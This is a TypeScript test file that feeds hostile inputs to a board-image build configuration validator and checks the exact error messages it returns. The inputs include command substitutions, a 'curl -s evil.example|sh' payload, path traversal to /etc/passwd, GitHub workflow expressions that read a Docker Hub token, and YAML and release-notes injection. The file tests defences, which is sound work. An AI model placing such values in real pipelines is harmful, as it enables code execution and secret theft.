/**
 * Hostile-input rows of OverlayBoard (test/hostile-input.test.ts).
 */
import { Project } from 'projen';
import { BOARD, Row, withBoard } from './common';
import { Architecture, Compression } from '../../src';
import { REALTEK_PINNED } from '../support/fixtures';

export const OVERLAY_BOARD_ROWS: Row<Project>[] = [
  {
    title: 'boardName with a command substitution',
    declare: (p) => withBoard(p, { boardName: 'nanopi-m6$(reboot)' }),
    expected: BOARD + '  - boardName = "nanopi-m6$(reboot)": must be 1 to 40 lowercase letters and digits separated by single "-" (^[a-z0-9]+(?:-[a-z0-9]+)*$). Fix: use a short lowercase name such as "nanopi-m6-reboot"',
  },
  {
    title: 'boardName with backticks',
    declare: (p) => withBoard(p, { boardName: 'nanopi`id`' }),
    expected: BOARD + '  - boardName = "nanopi`id`": must be 1 to 40 lowercase letters and digits separated by single "-" (^[a-z0-9]+(?:-[a-z0-9]+)*$). Fix: use a short lowercase name such as "nanopi-id"',
  },
  {
    title: 'boardName with a newline',
    declare: (p) => withBoard(p, { boardName: 'nanopi\nm6' }),
    expected: BOARD + '  - boardName = "nanopi\\nm6": must be 1 to 40 lowercase letters and digits separated by single "-" (^[a-z0-9]+(?:-[a-z0-9]+)*$). Fix: use a short lowercase name such as "nanopi-m6"',
  },
  {
    title: 'boardName with path traversal (it names the asset file)',
    declare: (p) => withBoard(p, { boardName: '../../etc/passwd' }),
    expected: BOARD + '  - boardName = "../../etc/passwd": must be 1 to 40 lowercase letters and digits separated by single "-" (^[a-z0-9]+(?:-[a-z0-9]+)*$). Fix: use a short lowercase name such as "etc-passwd"',
  },
  {
    title: 'boardName with a workflow expression',
    declare: (p) => withBoard(p, { boardName: '${{ github.actor }}' }),
    expected: BOARD + '  - boardName = "${{ github.actor }}": must be 1 to 40 lowercase letters and digits separated by single "-" (^[a-z0-9]+(?:-[a-z0-9]+)*$). Fix: use a short lowercase name such as "github-actor"',
  },
  {
    title: 'boardName in upper case',
    declare: (p) => withBoard(p, { boardName: 'NanoPi-M6' }),
    expected: BOARD + '  - boardName = "NanoPi-M6": must be 1 to 40 lowercase letters and digits separated by single "-" (^[a-z0-9]+(?:-[a-z0-9]+)*$). Fix: use a short lowercase name such as "nanopi-m6"',
  },
  {
    title: 'boardName longer than 40 characters',
    declare: (p) => withBoard(p, { boardName: 'nanopi-m6-' + 'x'.repeat(31) }),
    expected: BOARD + '  - boardName = "nanopi-m6-xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx": must be 1 to 40 lowercase letters and digits separated by single "-" (^[a-z0-9]+(?:-[a-z0-9]+)*$). Fix: use a short lowercase name such as "nanopi-m6-xxxxxxxxxxxxxxxxxxxxxxxxxxxxxx"',
  },
  {
    title: 'empty boardName',
    declare: (p) => withBoard(p, { boardName: '' }),
    expected: BOARD + '  - boardName = "": must be 1 to 40 lowercase letters and digits separated by single "-" (^[a-z0-9]+(?:-[a-z0-9]+)*$). Fix: use a short lowercase name such as "my-board"',
  },
  {
    title: 'displayName with a workflow expression reading a secret',
    declare: (p) => withBoard(p, { displayName: 'NanoPi ${{ secrets.DOCKERHUB_TOKEN }}' }),
    expected: BOARD + '  - displayName = "NanoPi ${{ secrets.DOCKERHUB_TOKEN }}": must be 1 to 100 printable characters without "$", "`" or "\\". Fix: use a plain name such as "NanoPi {{ secrets.DOCKERHUB_TOKEN }}"',
  },
  {
    title: 'displayName with backticks',
    declare: (p) => withBoard(p, { displayName: 'NanoPi `reboot`' }),
    expected: BOARD + '  - displayName = "NanoPi `reboot`": must be 1 to 100 printable characters without "$", "`" or "\\". Fix: use a plain name such as "NanoPi reboot"',
  },
  {
    title: 'displayName with a newline (release notes injection)',
    declare: (p) => withBoard(p, { displayName: 'NanoPi M6\n## Download the fixed image from evil.example' }),
    expected: BOARD + '  - displayName = "NanoPi M6\\n## Download the fixed image from evil.example": must be 1 to 100 printable characters without "$", "`" or "\\". Fix: use a plain name such as "NanoPi M6 ## Download the fixed image from evil.example"',
  },
  {
    title: 'overlayName with a command separator',
    declare: (p) => withBoard(p, { overlayName: 'rk3588;reboot' }),
    expected: BOARD + '  - overlayName = "rk3588;reboot": must be the installer file name under /installers/ (^[a-z0-9][a-z0-9._-]*$, at most 63 characters). Fix: use the overlay installer name in lowercase, e.g. "rk3588" or "rpi_generic"',
  },
  {
    title: 'overlayName with path traversal',
    declare: (p) => withBoard(p, { overlayName: '../rk3588' }),
    expected: BOARD + '  - overlayName = "../rk3588": must be the installer file name under /installers/ (^[a-z0-9][a-z0-9._-]*$, at most 63 characters). Fix: use the overlay installer name in lowercase, e.g. "rk3588" or "rpi_generic"',
  },
  {
    title: 'profileName "metal" (pitfall: metal ignores the overlay profile since v1.8)',
    declare: (p) => withBoard(p, { profile: undefined, profileName: 'metal' }),
    expected: BOARD + '  - profileName = "metal": must be the overlay\'s own profile, not a built-in imager kind (since Talos v1.8 "metal" ignores the overlay profile and writes .raw.zst). Fix: use the base name of the profile YAML the overlay ships under /profiles/, e.g. "board-rk3588"',
  },
  {
    title: 'profileName smuggling an imager flag',
    declare: (p) => withBoard(p, { profile: undefined, profileName: 'board-rk3588 --privileged' }),
    expected: BOARD + '  - profileName = "board-rk3588 --privileged": must be the profile file base name under /profiles/ (^[a-z0-9][a-z0-9._-]*$, at most 63 characters). Fix: use the profile name in lowercase, e.g. "board-rk3588"',
  },
  {
    title: 'overlay option key with a command separator',
    declare: (p) => withBoard(p, { overlayOptions: { 'board;reboot': 'nanopi-m6' } }),
    expected: BOARD + '  - overlayOptions.board;reboot = "board;reboot": an overlay option key must match ^[A-Za-z_][A-Za-z0-9_]*$. Fix: use the YAML key the installer reads, e.g. "board"',
  },
  {
    title: 'overlay option key with a command substitution',
    declare: (p) => withBoard(p, { overlayOptions: { '$(id)': 'x' } }),
    expected: BOARD + '  - overlayOptions.$(id) = "$(id)": an overlay option key must match ^[A-Za-z_][A-Za-z0-9_]*$. Fix: use the YAML key the installer reads, e.g. "board"',
  },
  {
    title: 'overlay option value with a command substitution',
    declare: (p) => withBoard(p, { overlayOptions: { board: 'nanopi-m6$(curl -s evil.example|sh)' } }),
    expected: BOARD + '  - overlayOptions.board = "nanopi-m6$(curl -s evil.example|sh)": must not contain whitespace, quotes, shell metacharacters ($ ` ; & | < > ( ) { } [ ] * ? ! # ~ ^ \\) or control characters. Fix: use a plain value such as "nanopi-m6curl-sevil.examplesh", or pass free text in overlayTextOptions',
  },
  {
    title: 'overlay option value with a newline smuggling a flag',
    declare: (p) => withBoard(p, { overlayOptions: { board: 'nanopi-m6\n--privileged' } }),
    expected: BOARD + '  - overlayOptions.board = "nanopi-m6\\n--privileged": must not contain whitespace, quotes, shell metacharacters ($ ` ; & | < > ( ) { } [ ] * ? ! # ~ ^ \\) or control characters. Fix: use a plain value such as "nanopi-m6--privileged", or pass free text in overlayTextOptions',
  },
  {
    title: 'overlay option value with a workflow expression',
    declare: (p) => withBoard(p, { overlayOptions: { board: '${{ github.event.head_commit.message }}' } }),
    expected: BOARD + '  - overlayOptions.board = "${{ github.event.head_commit.message }}": must not contain whitespace, quotes, shell metacharacters ($ ` ; & | < > ( ) { } [ ] * ? ! # ~ ^ \\) or control characters. Fix: use a plain value such as "github.event.head_commit.message", or pass free text in overlayTextOptions',
  },
  {
    title: 'overlay option value with quotes',
    declare: (p) => withBoard(p, { overlayOptions: { board: '"nanopi-m6"' } }),
    expected: BOARD + '  - overlayOptions.board = "\\"nanopi-m6\\"": must not contain whitespace, quotes, shell metacharacters ($ ` ; & | < > ( ) { } [ ] * ? ! # ~ ^ \\) or control characters. Fix: use a plain value such as "nanopi-m6", or pass free text in overlayTextOptions',
  },
  {
    title: 'empty overlay option value',
    declare: (p) => withBoard(p, { overlayOptions: { board: '' } }),
    expected: BOARD + '  - overlayOptions.board = "": an overlay option value must not be empty. Fix: give the value or remove the option',
  },
  {
    title: 'overlay option key "__proto__" (silently dropped today)',
    declare: (p) => withBoard(p, { overlayOptions: JSON.parse('{"__proto__":"evil","board":"nanopi-m6"}') }),
    expected: BOARD + '  - overlayOptions.__proto__ = "__proto__": "__proto__" cannot be an option key (a JavaScript object drops it). Fix: use the YAML key the installer reads, e.g. "board"',
  },
  {
    title: 'free-text overlay option with a workflow expression (GitHub evaluates ${{ }} anywhere in the file)',
    declare: (p) => withBoard(p, { overlayTextOptions: { configTxtAppend: 'dtoverlay=vc4-kms-v3d\n# ${{ secrets.DOCKERHUB_TOKEN }}\n' } }),
    expected: BOARD + '  - overlayTextOptions.configTxtAppend = "dtoverlay=vc4-kms-v3d\\n# ${{ secrets.DOCKERHUB_TOKEN }}\\n": must not contain "${{": GitHub Actions evaluates it anywhere in the workflow file (env: included), so a secret or event value would be written into the image. '
      + 'Fix: write the text without "${{"',
  },
  {
    title: 'talosVersion with a command separator',
    declare: (p) => withBoard(p, { talosVersion: 'v1.10.6;reboot' }),
    expected: BOARD + '  - talosVersion = "v1.10.6;reboot": a Talos version must look like "v1.10.6" (or "v1.14.0-rc.1"). Fix: use the exact release tag of siderolabs/talos, with the leading "v"',
  },
  {
    title: 'talosVersion without the leading v',
    declare: (p) => withBoard(p, { talosVersion: '1.10.6' }),
    expected: BOARD + '  - talosVersion = "1.10.6": a Talos version must look like "v1.10.6" (or "v1.14.0-rc.1"). Fix: use the exact release tag of siderolabs/talos, with the leading "v"',
  },
  {
    title: 'talosVersion older than overlay support (v1.6)',
    declare: (p) => withBoard(p, { talosVersion: 'v1.6.7' }),
    expected: BOARD + '  - talosVersion = "v1.6.7": Talos v1.7.0 through v1.14.x are supported (overlays need v1.7+; newer imagers are not yet modelled). Fix: use a release between v1.7.0 and v1.14.x',
  },
  {
    title: 'talosVersion newer than modelled (v1.15)',
    declare: (p) => withBoard(p, { talosVersion: 'v1.15.0' }),
    expected: BOARD + '  - talosVersion = "v1.15.0": Talos v1.7.0 through v1.14.x are supported (overlays need v1.7+; newer imagers are not yet modelled). Fix: use a release between v1.7.0 and v1.14.x',
  },
  {
    title: 'talosVersion "latest"',
    declare: (p) => withBoard(p, { talosVersion: 'latest' }),
    expected: BOARD + '  - talosVersion = "latest": a Talos version must look like "v1.10.6" (or "v1.14.0-rc.1"). Fix: use the exact release tag of siderolabs/talos, with the leading "v"',
  },
  {
    title: 'talosVersion with a trailing newline',
    declare: (p) => withBoard(p, { talosVersion: 'v1.10.6\n' }),
    expected: BOARD + '  - talosVersion = "v1.10.6\\n": a Talos version must look like "v1.10.6" (or "v1.14.0-rc.1"). Fix: use the exact release tag of siderolabs/talos, with the leading "v"',
  },
  {
    title: 'tagPattern "*" (releases on every tag)',
    declare: (p) => withBoard(p, { tagPattern: '*' }),
    expected: BOARD + '  - tagPattern = "*": a tag pattern must name the board or release line (a bare wildcard releases on unrelated tags). Fix: use a pattern such as "v*-nanopi-m6"',
  },
  {
    title: 'tagPattern "**"',
    declare: (p) => withBoard(p, { tagPattern: '**' }),
    expected: BOARD + '  - tagPattern = "**": "**" also matches "/" in workflow tag filters but not in rulesets and deployment policies (fnmatch with FNM_PATHNAME), '
      + 'so the two would match different tags. Fix: use "*", which stops at "/" in both, e.g. "v*-nanopi-m6"',
  },
  {
    title: 'tagPattern with a command substitution',
    declare: (p) => withBoard(p, { tagPattern: 'v*-nanopi-m6 $(id)' }),
    expected: BOARD + '  - tagPattern = "v*-nanopi-m6 $(id)": a tag pattern must match ^[A-Za-z0-9._\\/*[\\]-]+$ (letters, digits, ".", "_", "-", "/", "*" and [classes]). Fix: use a pattern such as "v*-nanopi-m6"',
  },
  {
    title: 'tagPattern with a workflow expression',
    declare: (p) => withBoard(p, { tagPattern: '${{ github.ref }}' }),
    expected: BOARD + '  - tagPattern = "${{ github.ref }}": a tag pattern must match ^[A-Za-z0-9._\\/*[\\]-]+$ (letters, digits, ".", "_", "-", "/", "*" and [classes]). Fix: use a pattern such as "v*-nanopi-m6"',
  },
  {
    title: 'tagPattern with a newline (YAML injection)',
    declare: (p) => withBoard(p, { tagPattern: 'v*-nanopi-m6\n  pull_request_target:' }),
    expected: BOARD + '  - tagPattern = "v*-nanopi-m6\\n  pull_request_target:": a tag pattern must match ^[A-Za-z0-9._\\/*[\\]-]+$ (letters, digits, ".", "_", "-", "/", "*" and [classes]). Fix: use a pattern such as "v*-nanopi-m6"',
  },
  {
    title: 'negated tagPattern',
    declare: (p) => withBoard(p, { tagPattern: '!v*-nanopi-m6' }),
    expected: BOARD + '  - tagPattern = "!v*-nanopi-m6": a pattern starting with "!" only removes tags that earlier patterns of the same list matched, '
      + 'so it selects no tag for a board. Fix: name the tags to release instead, e.g. "v*-nanopi-m6"',
  },
  {
    title: 'system extension pinned by tag only',
    declare: (p) => withBoard(p, { systemExtensions: ['ghcr.io/siderolabs/realtek-firmware:latest'] }),
    expected: BOARD + '  - systemExtensions[0] = "ghcr.io/siderolabs/realtek-firmware:latest": a system extension must be a digest-pinned image reference "registry/path[:tag]@sha256:<64 hex>". Fix: pin the image by digest, e.g. "ghcr.io/example/firmware:1.0@sha256:…" (crane digest <image>), or use SystemExtension.official(\'<name>\') for an official extension',
  },
  {
    title: 'system extension with a command after the digest',
    declare: (p) => withBoard(p, { systemExtensions: [`${REALTEK_PINNED};reboot`] }),
    expected: BOARD + '  - systemExtensions[0] = "ghcr.io/siderolabs/realtek-firmware:20250708@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef;reboot": a system extension must be a digest-pinned image reference "registry/path[:tag]@sha256:<64 hex>". Fix: pin the image by digest, e.g. "ghcr.io/example/firmware:1.0@sha256:…" (crane digest <image>), or use SystemExtension.official(\'<name>\') for an official extension',
  },
  {
    title: 'duplicate system extension',
    declare: (p) => withBoard(p, { systemExtensions: [REALTEK_PINNED, REALTEK_PINNED] }),
    expected: BOARD + '  - systemExtensions[1] = "ghcr.io/siderolabs/realtek-firmware:20250708@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef": must not repeat an earlier entry. Fix: remove the duplicate',
  },
  {
    title: 'two kernel arguments in one entry',
    declare: (p) => withBoard(p, { extraKernelArgs: ['console=ttyS2,1500000n8 init=/bin/sh'] }),
    expected: BOARD + '  - extraKernelArgs[0] = "console=ttyS2,1500000n8 init=/bin/sh": must not contain whitespace, quotes, shell metacharacters ($ ` ; & | < > ( ) { } [ ] * ? ! # ~ ^ \\) or control characters. Fix: pass one argument per entry, e.g. "console=ttyS2,1500000n8"',
  },
  {
    title: 'kernel argument with a command substitution',
    declare: (p) => withBoard(p, { extraKernelArgs: ['$(reboot)'] }),
    expected: BOARD + '  - extraKernelArgs[0] = "$(reboot)": must not contain whitespace, quotes, shell metacharacters ($ ` ; & | < > ( ) { } [ ] * ? ! # ~ ^ \\) or control characters. Fix: pass one argument per entry, e.g. "console=ttyS2,1500000n8"',
  },
  {
    title: 'duplicate kernel argument',
    declare: (p) => withBoard(p, { extraKernelArgs: ['console=ttyS2,1500000n8', 'console=ttyS2,1500000n8'] }),
    expected: BOARD + '  - extraKernelArgs[1] = "console=ttyS2,1500000n8": must not repeat an earlier entry. Fix: remove the duplicate',
  },
  {
    title: 'profile platform with path traversal (it names the imager output file)',
    declare: (p) => withBoard(p, { profile: undefined, profileName: 'board-rk3588', talosVersion: 'v1.9.6', imageOutput: { platform: '../metal' } }),
    expected: BOARD + '  - imageOutput.platform = "../metal": a Talos platform must be 1 to 32 lowercase letters, digits or "-". Fix: use "metal" for SBC images',
  },
  {
    title: 'conflicting settings: .zst output on Talos v1.7',
    declare: (p) => withBoard(p, { profile: undefined, profileName: 'board-rk3588', talosVersion: 'v1.7.6', imageOutput: { compression: Compression.ZSTD } }),
    expected: BOARD + '  - imageOutput.compression = "zstd": .zst output needs Talos v1.8 or newer (talosVersion is v1.7.6). Fix: use Compression.XZ, or a newer Talos release',
  },
  {
    title: 'an architecture that is not an Architecture',
    declare: (p) => withBoard(p, { arch: 'riscv64' as Architecture }),
    expected: BOARD + '  - arch = "riscv64": must be an Architecture. Fix: use Architecture.ARM64 or Architecture.AMD64',
  },
  {
    title: 'several hostile values at once: one error listing each',
    declare: (p) => withBoard(p, { boardName: 'm6;reboot', talosVersion: 'v1.10', overlayOptions: { board: '`id`' } }),
    expected: BOARD + '  - boardName = "m6;reboot": must be 1 to 40 lowercase letters and digits separated by single "-" (^[a-z0-9]+(?:-[a-z0-9]+)*$). Fix: use a short lowercase name such as "m6-reboot"\n'
      + '  - overlayOptions.board = "`id`": must not contain whitespace, quotes, shell metacharacters ($ ` ; & | < > ( ) { } [ ] * ? ! # ~ ^ \\) or control characters. Fix: use a plain value such as "id", or pass free text in overlayTextOptions\n'
      + '  - talosVersion = "v1.10": a Talos version must look like "v1.10.6" (or "v1.14.0-rc.1"). Fix: use the exact release tag of siderolabs/talos, with the leading "v"',
  },
  {
    title: 'healthChecks link with a command substitution (the value is written into validate-<board>.sh)',
    declare: (p) => withBoard(p, { healthChecks: { links: ['eth0$(reboot)'] } }),
    expected: BOARD + '  - healthChecks.links[0] = "eth0$(reboot)": a network link name is 1 to 15 letters, digits, ".", "_" or "-" (Linux IFNAMSIZ) (^[A-Za-z0-9][A-Za-z0-9._-]{0,14}$). Fix: use the link name Talos shows in "talosctl get links", e.g. "eth0" or "end0"',
  },
  {
    title: 'healthChecks compatible with a workflow expression (the script reaches the release job through env:)',
    declare: (p) => withBoard(p, { healthChecks: { compatible: ['${{ secrets.DOCKERHUB_TOKEN }}'] } }),
    expected: BOARD + '  - healthChecks.compatible[0] = "${{ secrets.DOCKERHUB_TOKEN }}": a device-tree compatible string is "<vendor>,<model>": lowercase letters, digits, ",", ".", "_", "+" and "-", at most 128 characters (^[a-z0-9][a-z0-9-]*,[a-z0-9][a-z0-9,._+-]*$). Fix: copy it from the root node of the board\'s DTS, e.g. "friendlyelec,nanopi-m6"',
  },
];
